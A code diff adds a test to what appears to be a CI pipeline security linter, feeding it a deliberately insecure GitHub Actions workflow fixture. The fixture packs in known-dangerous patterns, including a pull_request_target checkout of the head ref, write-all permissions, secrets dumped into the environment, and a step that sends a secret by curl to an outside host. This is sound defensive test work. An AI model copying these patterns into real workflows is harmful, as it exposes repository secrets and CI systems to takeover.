@@ -10,8 +10,10 @@ import pytest
 from linter.checks import CHECKS, Verdict
 from linter.checks.pipelines_pins import ADVISORIES, version
 from linter.checks.pipelines_taint import ATTACKER, OPEN, SAFE, of_context
+from linter.engine.judge import judge as judge_all
 from linter.model import Estate
 from tests.parsers.test_pipelines import read, written
+from tests.support import PACK
 
 
 def judge(
@@ -287,3 +289,45 @@ def test_no_check_crashes_on_malformed_workflows(name: str, text: str) -> None:
     for verdict in verdicts_of(name, estate):
         assert verdict.outcome in ("pass", "fail", "unknown")
         assert (verdict.outcome == "unknown") == bool(verdict.unknowns)
+
+
+GENERAL = ("pipelines_delivery", "pipelines_quality", "pipelines_infrastructure")
+"""Modules whose checks ask every system."""
+
+ILL = f"""\
+on: [pull_request_target, pull_request]
+permissions: write-all
+jobs:
+  a:
+    runs-on: [self-hosted]
+    permissions: {{id-token: write}}
+    container: node
+    env: {{ACTIONS_ALLOW_UNSECURE_COMMANDS: true, AWS_SECRET_ACCESS_KEY: '${{{{ secrets.K }}}}'}}
+    if: github.actor == 'dependabot[bot]'
+    steps:
+      - uses: actions/checkout@main
+        with: {{ref: '${{{{ github.head_ref }}}}'}}
+      - uses: tj-actions/changed-files@v40
+      - run: echo {TITLE} ${{{{ toJSON(secrets) }}}} ${{{{ x + y }}}} >> $GITHUB_ENV
+      - run: npm publish && curl http://a.b/ -d ${{{{ secrets.A }}}}
+  b: {{uses: a/b/.github/workflows/c.yml@v1, secrets: inherit}}
+"""
+
+
+@pytest.mark.parametrize(("platform", "some"), [("github", True), ("gitlab", False)])
+def test_rules_of_github_ask_no_other_system(platform: str, some: bool) -> None:
+    estate = read(ILL)
+    for pipeline in estate.of_kind("pipeline/pipeline"):
+        pipeline.body["platform"] = platform
+    rules = [PACK.rule(id) for id in PACK.ids if id.startswith("gha-")]
+    of_github = [
+        rule
+        for rule in rules
+        if not any(module in CHECKS.get(variant.check, "") for variant in rule.variants for module in GENERAL)
+    ]
+    crashes: list[tuple[str, str]] = []
+    judged = judge_all(
+        estate, of_github, evidence=False, progress=lambda _: None, crashed=lambda *crash: crashes.append(crash)
+    )
+    assert not crashes
+    assert len({each.rule for each in judged if each.outcome == "fail"}) > 15 if some else not judged
